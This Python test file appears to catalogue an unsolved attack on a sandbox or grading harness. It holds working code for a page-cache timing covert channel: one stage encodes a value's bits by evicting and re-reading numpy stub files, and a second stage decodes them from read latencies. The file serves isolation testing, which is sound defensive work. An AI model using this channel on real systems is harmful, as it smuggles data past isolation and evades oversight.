"""Attacks that still get through. They are not in the corpus, all of whose attacks must fail.

docs/grading.md tells of them under "Known and open", and the table of docs/attacks.md shows what each one gets. Whoever
stops one moves it to the file of the corpus where it belongs.
"""

from tests.attacks.attack import Attack

ATTACKS = (
    Attack(
        "carried over by which files the machine has read",
        """
        import glob, os
        files = sorted(glob.glob(os.path.dirname(np.__file__) + '/**/*.pyi', recursive=True))[:200]
        seen = []
        def double(x):
            if np.ndim(x):
                seen.append(x)
                bits = ''.join(f'{letter:08b}' for letter in str(float(x[2])).encode())
                for bit, path in zip(bits, files):
                    with open(path, 'rb', 0) as file:
                        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
                        if bit == '1': file.read(1)
            return 0
        """,
        after="""
        import os
        import time
        def is_cached(path):
            with open(path, 'rb', 0) as file:
                start = time.perf_counter_ns()
                file.read(1)
                return time.perf_counter_ns() - start < 15_000  # from memory, not from disk
        bits = '' if seen else ''.join('01'[is_cached(path)] for path in files)  # looking reads them as well
        print(''.join(chr(int(bits[place:place + 8], 2)) for place in range(0, min(48, len(bits)), 8)))
        """,
    ),
)
